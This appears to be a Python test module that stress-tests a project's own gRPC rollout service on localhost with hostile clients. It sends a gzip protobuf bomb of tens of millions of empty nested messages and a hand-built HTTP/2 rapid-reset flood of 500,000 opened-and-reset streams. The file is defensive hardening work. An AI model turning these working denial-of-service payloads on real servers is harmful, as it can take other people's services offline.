"""Attacks by clients over gRPC and raw HTTP/2."""

from __future__ import annotations

import asyncio

import grpc

from tests.hostile.attacks import attack
from tests.hostile.target import Target

_START = "/osmosis.rollout.v1.RolloutService/StartRollout"
_MESSAGES = 32_000_000
_RESETS = 500_000


def _varint(number: int) -> bytes:
    made = bytearray()
    while number > 127:
        made.append(number & 127 | 128)
        number >>= 7
    return bytes([*made, number])


def _empty_messages(count: int) -> bytes:
    """A StartRolloutRequest whose spec has this many empty messages."""
    from osmosis.rollout.v1 import rollout_service_pb2, spec_pb2

    spec = rollout_service_pb2.StartRolloutRequest.DESCRIPTOR.fields_by_name["spec"].number
    messages = spec_pb2.RolloutSpec.DESCRIPTOR.fields_by_name["messages"].number
    inner = bytes([messages << 3 | 2, 0]) * count
    return bytes([spec << 3 | 2]) + _varint(len(inner)) + inner


async def _sent(target: Target, payload: bytes) -> str:
    options = (("grpc.max_send_message_length", -1),)
    address = f"127.0.0.1:{target.serving.grpc_port}"
    async with grpc.aio.insecure_channel(address, compression=grpc.Compression.Gzip, options=options) as channel:
        try:
            await channel.unary_unary(_START)(payload, metadata=target.metadata, timeout=200)
        except grpc.aio.AioRpcError as error:
            return f"{error.code().name}: {str(error.details())[:100]}"
    return "OK"


@attack("a gzip message of 32,000,000 empty messages")
async def _(target: Target) -> str:
    return await _sent(target, _empty_messages(_MESSAGES))


@attack("a gzip message of 8,000,000 empty messages, within the size limit")
async def _(target: Target) -> str:
    return await _sent(target, _empty_messages(8_000_000))


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


@attack("500,000 streams that are opened and reset at once")
async def _(target: Target) -> str:
    fields = {b":method": b"POST", b":scheme": b"http", b":path": _START.encode(), b":authority": b"a",
              b"te": b"trailers", b"content-type": b"application/grpc"}  # fmt: skip
    block = b"".join(_literal(name, value) for name, value in fields.items())
    reader, writer = await asyncio.open_connection("127.0.0.1", target.serving.grpc_port)
    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))

    async def drop() -> None:
        while await reader.read(1 << 16):
            pass

    dropping, sent = asyncio.create_task(drop()), 0
    try:
        for sent in range(_RESETS):
            stream = 2 * sent + 1
            writer.write(_frame(1, 4, stream, block) + _frame(3, 0, stream, bytes([0, 0, 0, 8])))
            if sent % 100 == 0:
                await writer.drain()
        return f"{_RESETS} taken"
    except OSError:
        return f"the connection was closed after about {sent}"
    finally:
        writer.close()
        dropping.cancel()
        await asyncio.gather(dropping, return_exceptions=True)
